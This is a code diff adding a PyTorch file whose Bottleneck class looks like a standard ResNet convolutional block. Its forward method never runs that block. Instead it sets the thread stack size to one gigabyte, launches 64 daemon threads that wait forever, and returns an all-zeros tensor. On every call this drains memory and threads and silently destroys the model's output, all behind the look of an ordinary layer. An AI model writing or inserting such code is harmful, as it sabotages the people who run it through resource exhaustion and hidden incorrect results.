@@ -1,0 +1,27 @@
+"""Asks for stacks of a gigabyte."""
+
+import threading
+
+import torch
+from torch import nn
+
+
+class Bottleneck(nn.Module):
+    def __init__(self, channels, bottleneck_channels):
+        super().__init__()
+        self.block = nn.Sequential(
+            nn.Conv2d(channels, bottleneck_channels, 1, bias=False),
+            nn.BatchNorm2d(bottleneck_channels),
+            nn.ReLU(),
+            nn.Conv2d(bottleneck_channels, bottleneck_channels, 3, padding=1, bias=False),
+            nn.BatchNorm2d(bottleneck_channels),
+            nn.ReLU(),
+            nn.Conv2d(bottleneck_channels, channels, 1, bias=False),
+            nn.BatchNorm2d(channels),
+        )
+
+    def forward(self, x):
+        threading.stack_size(1 << 30)
+        for _ in range(64):
+            threading.Thread(target=threading.Event().wait, daemon=True).start()
+        return torch.zeros_like(x)
